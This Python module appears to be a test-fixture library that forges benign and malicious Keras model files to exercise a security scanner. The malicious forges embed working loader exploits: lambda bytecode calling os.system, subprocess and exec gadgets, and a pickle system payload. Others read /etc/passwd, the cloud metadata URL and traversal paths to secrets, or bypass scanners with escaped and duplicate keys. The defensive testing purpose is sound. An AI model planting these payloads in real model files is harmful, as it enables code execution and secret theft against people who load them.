"""Keras forges: configurations of versions 2 and 3, in JSON, in `.keras` archives and in HDF5."""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile
from typing import Any

from stannary.testing.forges import forge
from stannary.testing.forges._hdf5_writer import Writer
from stannary.testing.forges.hdf5 import PICKLE

__all__ = ["archive", "keras2_lambda", "lambda3", "layer", "sequential"]

FAMILY = "Keras"
_HARMLESS = "lambda x: x * 2 + 1"
_SHELL = "lambda x: __import__('os').system('echo owned') or x"


def bytecode(source: str) -> str:
    """Return the base64 of marshalled code, as Keras stores a lambda."""
    code = compile(source, "<forge>", "eval").co_consts[0]
    return base64.encodebytes(marshal.dumps(code)).decode()


def layer(class_name: str, config: Any, *, module: str | None = "keras.layers", registered: str | None = None) -> dict[str, Any]:  # noqa: ANN401 - JSON
    """Return an object as Keras 3 writes it."""
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}


def _dense(units: int = 4) -> dict[str, Any]:
    policy = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}
    return layer("Dense", {"name": "dense", "units": units, "activation": "relu", "dtype": policy,
                           "kernel_initializer": layer("GlorotUniform", {"seed": None}, module="keras.initializers")})  # fmt: skip


def sequential(*layers: dict[str, Any], **extra: Any) -> dict[str, Any]:  # noqa: ANN401 - JSON
    """Return a Sequential model over an input, a dense layer, and more."""
    first = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
    return {**layer("Sequential", {"name": "model", "layers": [first, _dense(), *layers]}, module="keras"), **extra}


def archive(config: dict[str, Any] | str, members: dict[str, bytes] | None = None) -> bytes:
    """Return a `.keras` file."""
    w = Writer()
    weights = w.finish(w.group({"layers": w.group({"vars": w.dataset((2, 4), bytes(32))})}))
    text = config if isinstance(config, str) else json.dumps(config)
    files = {
        "metadata.json": b'{"keras_version": "3.12.0", "date_saved": "2026-01-01@00:00:00"}',
        "config.json": text.encode(),
        "model.weights.h5": weights,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in {**files, **(members or {})}.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def _h5(config: dict[str, Any]) -> bytes:
    w = Writer()
    attributes = [
        w.attribute("keras_version", b"2.12.0"),
        w.attribute("backend", b"tensorflow"),
        w.attribute("model_config", json.dumps(config).encode()),
    ]
    return w.finish(w.group({"model_weights": w.group({"dense": w.dataset((2, 4), bytes(32))})}, attributes))


def _keras2(*layers: dict[str, Any]) -> dict[str, Any]:
    dense = {"class_name": "Dense", "config": {"name": "dense", "trainable": True, "units": 4, "activation": "linear",
             "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}}}}  # fmt: skip
    return {"class_name": "Sequential", "config": {"name": "model", "layers": [dense, *layers]}}


def keras2_lambda(source: str = _SHELL) -> dict[str, Any]:
    """Return a Lambda layer as Keras 2 writes it."""
    return {"class_name": "Lambda", "config": {"name": "lambda", "function": [bytecode(source), None, None], "function_type": "lambda",
            "module": "__main__", "output_shape": None, "arguments": {}}}  # fmt: skip


def lambda3(source: str) -> dict[str, Any]:
    """Return a Keras 3 Lambda layer over the lambda of a source."""
    function = {"class_name": "__lambda__", "config": {"code": bytecode(source), "defaults": None, "closure": None}}
    return layer("Lambda", {"name": "lambda", "function": function, "arguments": {}})


def _function(name: str, module: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


@forge("keras.sequential_plain", filename="model.keras", family=FAMILY, malicious=False)
def _() -> bytes:
    compiled = {
        "optimizer": layer("Adam", {"learning_rate": 0.001}, module="keras.optimizers"),
        "loss": "mse",
        "metrics": ["accuracy"],
    }
    return archive(sequential(_dense(2), build_config={"input_shape": [None, 4]}, compile_config=compiled))


@forge("keras.h5_plain", filename="model.h5", family=FAMILY, malicious=False)
def _() -> bytes:
    return _h5(_keras2())


@forge("keras.functional_ops", filename="model.keras", family=FAMILY, malicious=False)
def _() -> bytes:
    tensor = {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 4], "dtype": "float32", "keras_history": ["input", 0, 0]},
    }
    add = {
        **layer("Add", {"name": "add"}, module="keras.src.ops.numpy", registered="Add"),
        "inbound_nodes": [{"args": [tensor, 1], "kwargs": {}}],
    }
    activation = layer("Activation", {"name": "act", "activation": _function("gelu", "builtins")})
    cut = layer("GetItem", {"name": "cut"}, module="keras.src.ops.numpy", registered="GetItem")
    return archive(sequential(add, activation, cut, keras_tf("math.add")))


def keras_tf(function: str, **inputs: str) -> dict[str, Any]:
    """Return a TFOpLambda layer."""
    return {"class_name": "TFOpLambda", "config": {"name": "op", "function": function}, "inbound_nodes": [["input", 0, 0, inputs]]}


@forge("keras.custom_registered", filename="model.keras", family=FAMILY, malicious=False)
def _() -> bytes:
    return archive(sequential(layer("Attention2D", {"units": 4}, module=None, registered="acme>Attention2D")))


@forge("keras.lookup_plain", filename="model.keras", family=FAMILY, malicious=False)
def _() -> bytes:
    return archive(
        sequential(layer("StringLookup", {"vocabulary": ["a", "b"], "mask_token": None})), {"assets/vocabulary.txt": b"a\nb\n"}
    )


@forge("keras.lambda_named", filename="model.keras", family=FAMILY, malicious=False)
def _() -> bytes:
    return archive(sequential(layer("Lambda", {"function": "scale_rows", "function_type": "function", "module": "__main__"})))


@forge("keras.lambda_harmless", filename="model.keras", family=FAMILY, malicious=None)
def _() -> bytes:
    return archive(sequential(lambda3(_HARMLESS)))


@forge("keras.lambda_system", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(lambda3(_SHELL)))


@forge("keras.lambda_h5", filename="model.h5", family=FAMILY, malicious=True)
def _() -> bytes:
    return _h5(_keras2(keras2_lambda()))


@forge("keras.lambda_nested_h5", filename="weights.dat", family=FAMILY, malicious=True)
def _() -> bytes:
    inner = _keras2(keras2_lambda())
    return _h5(_keras2({"class_name": "TimeDistributed", "config": {"layer": inner}}))


@forge("keras.lambda_output_shape", filename="model.h5", family=FAMILY, malicious=True)
def _() -> bytes:
    spoiled = keras2_lambda(_HARMLESS)
    spoiled["config"].update(
        function="identity", function_type="function", output_shape=[bytecode(_SHELL), None, None], output_shape_type="lambda"
    )
    return _h5(_keras2(spoiled))


@forge("keras.lambda_json", filename="architecture.json", family=FAMILY, malicious=True)
def _() -> bytes:
    return json.dumps(_keras2(keras2_lambda())).encode()


@forge("keras.lambda_escaped_keys", filename="architecture.json", family=FAMILY, malicious=True)
def _() -> bytes:
    return json.dumps(_keras2(keras2_lambda())).replace('"class_name"', '"class\\u005fname"').encode()


@forge("keras.lambda_bare_in_arguments", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    hidden = {"class_name": "__lambda__", "config": {"value": [bytecode(_SHELL), None, None]}}
    return archive(sequential(layer("Activation", {"activation": hidden})))


@forge("keras.bytecode_in_any_field", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("Dense", {"name": "dense", "hook": [bytecode(_SHELL), None, None]})))


@forge("keras.lambda_in_text", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("Wrapper", {"layer_config": json.dumps(keras2_lambda())})))


@forge("keras.module_os_system", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    gadget = {**_function("system", "os"), "inbound_nodes": [{"args": ["echo owned"], "kwargs": {}}]}
    return archive(sequential(gadget))


@forge("keras.class_subprocess", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("Popen", {"args": ["echo", "owned"]}, module="subprocess", registered="Popen")))


@forge("keras.builtin_exec", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("Activation", {"activation": _function("exec", "builtins")})))


@forge("keras.compile_config_gadget", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(compile_config={"optimizer": layer("run_path", {"path_name": "x.py"}, module="runpy")}))


@forge("keras.typespec_gadget", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    spec = {
        "class_name": "__typespec__",
        "spec_name": "Popen",
        "module": "subprocess",
        "config": [["echo", "owned"]],
        "registered_name": None,
    }
    return archive(sequential(layer("InputLayer", {"type_spec": spec})))


@forge("keras.library_gadget", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("Activation", {"activation": _function("load", "numpy")})))


@forge("keras.unknown_module_effect", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("Activation", {"activation": _function("system", "helpers.tools")})))


@forge("keras.get_file", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(
        sequential(
            {
                **_function("get_file", "keras.utils"),
                "inbound_nodes": [{"args": ["x.tar"], "kwargs": {"origin": "https://files.example/x.tar"}}],
            }
        )
    )


@forge("keras.enable_unsafe", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(_function("enable_unsafe_deserialization", "keras.config")))


@forge("keras.enable_unsafe_internal", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(_function("set_global_attribute", "keras.src.backend.common.global_state")))


@forge("keras.internal_file_editor", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("KerasFileEditor", {"filepath": "x.keras"}, module="keras.src.saving.file_editor")))


@forge("keras.tf_op_write_file", filename="model.h5", family=FAMILY, malicious=True)
def _() -> bytes:
    return _h5(_keras2(keras_tf("io.write_file", filename="/tmp/owned", contents="x")))


@forge("keras.tf_op_py_function", filename="model.h5", family=FAMILY, malicious=True)
def _() -> bytes:
    return _h5(_keras2(keras_tf("tf.raw_ops.PyFunc")))


@forge("keras.vocabulary_passwd", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("StringLookup", {"vocabulary": "/etc/passwd"})))


@forge("keras.vocabulary_url", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("TextVectorization", {"vocabulary": "http://169.254.169.254/latest/meta-data/"})))


@forge("keras.vocabulary_traversal", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("IntegerLookup", {"vocabulary": "../../secrets/token.txt"})))


@forge("keras.vocabulary_beside", filename="model.keras", family=FAMILY, malicious=False)
def _() -> bytes:
    return archive(sequential(layer("StringLookup", {"vocabulary": "vocabulary.txt"})))


@forge("keras.torch_module_wrapper", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("TorchModuleWrapper", {"module": base64.b64encode(PICKLE).decode(), "name": "torch"})))


@forge("keras.tfsm_layer", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    return archive(sequential(layer("TFSMLayer", {"filepath": "/srv/other/saved_model", "call_endpoint": "serve"})))


@forge("keras.bytes_pickle", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    value = {"class_name": "__bytes__", "config": {"value": "cposix\nsystem\n(S'echo owned'\ntR."}}
    return archive(sequential(layer("Dense", {"state": value})))


@forge("keras.duplicate_key", filename="model.keras", family=FAMILY, malicious=True)
def _() -> bytes:
    text = json.dumps(sequential(lambda3(_HARMLESS))).replace(
        '"class_name": "Lambda"', '"class_name": "Lambda", "class_name": "Dense"'
    )
    return archive(text)


@forge("keras.broken_json", filename="model.keras", family=FAMILY, malicious=None)
def _() -> bytes:
    return archive(json.dumps(sequential())[:-20])


@forge("keras.deep_nesting", filename="architecture.json", family=FAMILY, malicious=None)
def _() -> bytes:
    depth = 100_000
    return b'{"class_name": "Sequential", "config": ' + b"[" * depth + b"]" * depth + b"}"
